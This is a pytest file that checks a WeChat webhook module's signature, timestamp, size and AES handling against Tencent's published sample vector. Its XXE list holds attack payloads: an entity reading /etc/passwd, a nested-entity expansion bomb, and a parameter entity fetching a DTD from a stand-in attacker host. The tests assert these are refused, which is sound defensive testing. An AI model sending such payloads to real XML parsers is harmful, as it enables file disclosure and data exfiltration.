"""Signature, timestamp, XXE, size and AES checks of the WeChat webhook, with Tencent's sample vector."""

import pytest
import xmltodict
from wechatpy.crypto import WeChatCrypto

from channels.wechat.crypto import Envelope, Refused, cdata, parse_xml, sha1_signature, text_reply
from tests.doubles.fake_wechat import message_xml, webhook_call

# Tencent's published safe-mode sample (WXBizMsgCrypt sample code, 2014).
TOKEN, AES_KEY, APP_ID = "spamtest", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG", "wx2c2769f8efd9abc2"
TIMESTAMP, NONCE, MSG_SIGNATURE = "1409735669", "1320562132", "5d197aaffba7e9b25a30732f161a50dee96bd5fa"
ENCRYPTED = ("hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbeUgmBM4x6F8PGHQHFVAFm"
             "OD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41IzDWyWNlZkyyXwon8T332jisa+h6tEDYsVticbSnyU8dK"
             "OIbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA912xMezR4kw6KWwMrCVKSVCZciVGCgavjIQ6X8tCOp3yZbGpy0VxpAe+77TszTfRd5RJ"
             "SVO/HTnifJpXgCSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6OewpusjZ4uBl9FyJvnhvQl+q5rv1ixrcpCumEPo5MJSgM9ehVsNPfUM"
             "669WuMyVWQLCzpu9GhglF2PE=")
SAMPLE_BODY = (f"<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>"
               f"<Encrypt><![CDATA[{ENCRYPTED}]]></Encrypt></xml>")


def sample_query(**changes: str) -> dict[str, str]:
    query = {"timestamp": TIMESTAMP, "nonce": NONCE, "encrypt_type": "aes", "msg_signature": MSG_SIGNATURE,
             "signature": sha1_signature(TOKEN, TIMESTAMP, NONCE)}
    return {**query, **changes}


def sample_envelope(app_id: str = APP_ID, now: float = 1409735669) -> Envelope:
    return Envelope(token=TOKEN, app_id=app_id, aes_key=AES_KEY, clock=lambda: now)


def refused(envelope: Envelope, query: dict[str, str], body: bytes) -> Refused:
    with pytest.raises(Refused) as caught:
        envelope.open(query, body)
    return caught.value


def test_tencent_sample_decrypts_to_its_text_message() -> None:
    message = sample_envelope().open(sample_query(), SAMPLE_BODY.encode())
    assert message["MsgType"] == "text" and message["Content"] == "abcdteT"
    assert message["MsgId"] == "6054768590064713728"
    assert message["FromUserName"] == "oyORnuP8q7ou2gfYjqLzSIWZf0rs"


def test_the_sample_signature_is_the_published_one() -> None:
    assert sha1_signature(TOKEN, TIMESTAMP, NONCE, ENCRYPTED) == MSG_SIGNATURE


def test_tencent_sample_for_another_appid_is_refused() -> None:
    assert refused(sample_envelope(app_id="wx0000000000000000"), sample_query(), SAMPLE_BODY.encode()).status == 403


@pytest.mark.parametrize("changes", [
    {"msg_signature": "0" * 40},
    {"msg_signature": ""},
    {"signature": "0" * 40},
    {"signature": ""},
    {"nonce": "1320562133"},           # both signatures cover the nonce
])
def test_tencent_sample_with_a_wrong_signature_is_refused(changes: dict[str, str]) -> None:
    assert refused(sample_envelope(), sample_query(**changes), SAMPLE_BODY.encode()).status == 403


def test_tencent_sample_today_is_stale() -> None:
    envelope = Envelope(token=TOKEN, app_id=APP_ID, aes_key=AES_KEY)  # the real clock
    assert refused(envelope, sample_query(), SAMPLE_BODY.encode()).reason == "timestamp outside the allowed window"


@pytest.mark.parametrize("offset, accepted", [(-300, True), (300, True), (-301, False), (301, False)])
def test_timestamp_window_is_300_seconds(offset: int, accepted: bool) -> None:
    envelope = sample_envelope(now=int(TIMESTAMP) + offset)
    if accepted:
        assert envelope.open(sample_query(), SAMPLE_BODY.encode())["Content"] == "abcdteT"
    else:
        assert refused(envelope, sample_query(), SAMPLE_BODY.encode()).status == 403


def test_safe_mode_refuses_plaintext_bodies() -> None:
    query, body = webhook_call(message_xml(FromUserName="o-1", MsgType="text", Content="hi", MsgId=1),
                               token=TOKEN, app_id=APP_ID, aes_key=None)
    assert refused(Envelope(token=TOKEN, app_id=APP_ID, aes_key=AES_KEY), query, body).status == 400


XXE = [
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Content>&x;</Content></xml>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><xml><Content>&lol2;</Content></xml>',
    '<xml><!doctype x></xml>',
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"><xml/>',
]


@pytest.mark.parametrize("xml", XXE)
def test_declarations_are_refused_in_plaintext_mode(xml: str) -> None:
    query, body = webhook_call(xml, token=TOKEN, app_id=APP_ID, aes_key=None)
    assert refused(Envelope(token=TOKEN, app_id=APP_ID), query, body).status == 400


@pytest.mark.parametrize("xml", XXE)
def test_declarations_are_refused_inside_the_encrypted_message(xml: str) -> None:
    query, body = webhook_call(xml, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY)
    assert refused(Envelope(token=TOKEN, app_id=APP_ID, aes_key=AES_KEY), query, body).status == 400


def test_oversized_bodies_are_refused_before_anything_else() -> None:
    envelope = Envelope(token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, max_body_bytes=1024)
    assert refused(envelope, {}, b"<xml>" + b"x" * 1024 + b"</xml>").status == 413


@pytest.mark.parametrize("body", [b"", b"not xml", b"<xml><a></xml>", b"\xff\xfe<xml/>", b"<other/>", b"<xml/>"])
def test_malformed_bodies_are_400(body: bytes) -> None:
    query, _ = webhook_call("", token=TOKEN, app_id=APP_ID, aes_key=None)
    assert refused(Envelope(token=TOKEN, app_id=APP_ID), query, body).status == 400


def test_garbage_ciphertext_is_400() -> None:
    query = {"timestamp": "1", "nonce": "2", "signature": sha1_signature(TOKEN, "1", "2"),
             "msg_signature": sha1_signature(TOKEN, "1", "2", "bm90IGFlcw==")}
    body = b"<xml><Encrypt><![CDATA[bm90IGFlcw==]]></Encrypt></xml>"
    envelope = Envelope(token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, clock=lambda: 1)
    assert refused(envelope, query, body).status in (400, 403)


def test_plaintext_mode_checks_the_signature() -> None:
    xml = message_xml(FromUserName="o-1", MsgType="text", Content="你好", MsgId=7)
    query, body = webhook_call(xml, token=TOKEN, app_id=APP_ID, aes_key=None)
    envelope = Envelope(token=TOKEN, app_id=APP_ID)
    assert envelope.open(query, body)["Content"] == "你好"
    assert refused(envelope, {**query, "signature": "f" * 40}, body).status == 403


def test_url_verification_echoes_only_when_signed() -> None:
    envelope = Envelope(token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, clock=lambda: 1409735669)
    query = {"timestamp": TIMESTAMP, "nonce": NONCE, "signature": sha1_signature(TOKEN, TIMESTAMP, NONCE)}
    assert envelope.verify_url({**query, "echostr": "shr5ch"}) == "shr5ch"
    with pytest.raises(Refused):
        envelope.verify_url({**query, "echostr": "shr5ch", "signature": "0" * 40})


def test_sealed_reply_decrypts_with_wechats_own_code() -> None:
    envelope = sample_envelope()
    reply = text_reply(to_user="o-1", from_user="gh_1", content="答复 ]]> <b>", create_time=1409735670)
    sealed = envelope.seal(reply, nonce="42", timestamp=TIMESTAMP)
    outer = xmltodict.parse(sealed)["xml"]
    assert outer["MsgSignature"] == sha1_signature(TOKEN, TIMESTAMP, "42", outer["Encrypt"])
    plain = WeChatCrypto(TOKEN, AES_KEY, APP_ID).decrypt_message(sealed, outer["MsgSignature"], TIMESTAMP, "42")
    assert parse_xml(plain.encode())["Content"] == "答复 ]]> <b>"


def test_plaintext_mode_does_not_seal() -> None:
    assert Envelope(token=TOKEN, app_id=APP_ID).seal("<xml/>") == "<xml/>"


def test_cdata_survives_its_terminator() -> None:
    assert xmltodict.parse(f"<a>{cdata('x]]>y')}</a>")["a"] == "x]]>y"
